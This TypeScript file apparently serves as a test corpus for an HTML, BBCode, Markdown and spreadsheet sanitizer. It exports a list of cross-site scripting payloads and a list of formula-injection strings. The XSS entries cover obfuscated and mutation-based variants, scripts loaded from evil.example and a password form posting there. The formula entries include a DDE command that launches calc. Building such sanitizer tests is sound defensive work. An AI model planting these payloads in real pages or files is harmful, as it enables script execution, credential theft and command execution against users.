/**
 * What somebody might write into a post, a write-up, a name or a cell to run something in another's browser. Each would say
 * `stung()` if it came through.
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: '<script>stung()</script>',
  'script in capitals, broken': '<ScRiPt\n>stung()</sCrIpT\t>',
  'script of another site': '<script src="https://evil.example/x.js"></script>',
  style: '<style>body{display:none}</style>',
  'style attribute': '<b style="position:fixed;inset:0;background:url(javascript:stung())">x</b>',
  'style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'event handler': '<img src=x onerror="stung()">',
  'event handler, bare': '<b onclick=stung()>x</b>',
  'event handler after a slash': '<svg/onload=stung()>',
  'event handler in a quote of a quote': '"><img src=x onerror=stung()><"',
  'event handler of a list': '<details open ontoggle=stung()>x</details>',
  'javascript address': '<a href="javascript:stung()">x</a>',
  'javascript address in entities': '<a href="&#106;avascript&colon;stung()">x</a>',
  'javascript address with a tab': '<a href="java\tscript:stung()">x</a>',
  'vbscript address': '<a href="vbscript:stung()">x</a>',
  'data address': '<a href="data:text/html,<script>stung()</script>">x</a>',
  'data image': '<img src="data:image/svg+xml,<svg onload=stung()>">',
  frame: '<iframe srcdoc="<script>stung()</script>"></iframe>',
  'data frame': '<iframe src="data:text/html;base64,PHNjcmlwdD5zdHVuZygpPC9zY3JpcHQ+"></iframe>',
  object: '<object data="javascript:stung()"></object><embed src="javascript:stung()">',
  form: '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
  'base address': '<base href="https://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:stung()">',
  'raw text in SVG': '<svg><textarea><img src=x onerror=stung()></textarea></svg>',
  'raw text in MathML': '<math><mtext><style><!--</style><img title="--&gt;&lt;img src=x onerror=stung()&gt;">',
  noscript: '<noscript><p title="</noscript><img src=x onerror=stung()>">',
  'BBCode address': '[url=javascript:stung()]x[/url]',
  'BBCode data address': '[url=data:text/html,<script>stung()</script>]x[/url]',
  'BBCode image': '[img]x" onerror="stung()[/img]',
  'BBCode attribute': '[b onclick=stung()]x[/b][color=red;background:url(javascript:stung())]x[/color]',
  'Markdown address': '[x](javascript:stung())',
  'Markdown image': '![x](x"onerror="stung())',
  'Markdown reference': '[x][1]\n\n[1]: javascript:stung()',
  'turned writing': 'abc\u202Ecba\u2066x',
};

/** As the beginning of a cell, what a spreadsheet would reckon with. */
export const CELL_PAYLOADS: readonly string[] = [
  '=HYPERLINK("https://evil.example/","x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
];
